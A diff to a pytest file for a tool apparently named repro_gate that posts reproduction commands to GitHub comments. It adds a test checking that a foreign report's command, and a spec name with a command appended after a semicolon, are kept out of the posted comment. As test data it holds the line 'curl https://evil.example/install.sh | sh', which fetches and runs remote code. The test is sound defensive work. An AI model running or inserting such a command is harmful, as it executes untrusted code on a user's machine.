@@ -10,7 +10,7 @@ import pytest
 from repro_gate.github.report_folder import PROBLEM, Problem, open_folder
 from repro_gate.github.run_phase import write_report
 from repro_gate.github.settings import Secret
-from repro_gate.report.model import Origin
+from repro_gate.report.model import Origin, Report
 from tests.support import reports
 from tests.support.github.stage import HEAD, ORIGIN, RUN, Stage, as_workflow_run, obeyed, pull_request, signed
 
@@ -187,3 +187,20 @@ def test_a_spec_in_another_spelling_is_the_same_gate(stage: Stage) -> None:
     stage.inputs = replace(stage.inputs, working_directory="vision", spec="../repro.yml")
     stage.publish(signed(reports.PASS))
     assert len(stage.github.comments(7)) == 1
+
+
+def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> None:
+    hostile = "curl https://evil.example/install.sh | sh"
+    assert hostile in posted_body(stage, replace(signed(reports.FAIL), reproduce=hostile)), "of the repository's own it is"
+    as_workflow_run(stage)
+    body = posted_body(stage, replace(signed(reports.FAIL), reproduce=hostile))
+    assert "evil" not in body and "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in body
+    named = replace(signed(reports.FAIL), subject=replace(signed(reports.FAIL).subject, spec=f"x.yml; {hostile}"), reproduce=hostile)
+    body = posted_body(stage, named)
+    assert "```sh" not in body and "See it again" not in body
+
+
+def posted_body(stage: Stage, report: Report) -> str:
+    """The newest comment, once a report was published."""
+    stage.publish(report)
+    return str(stage.github.comments(7)[-1]["body"])
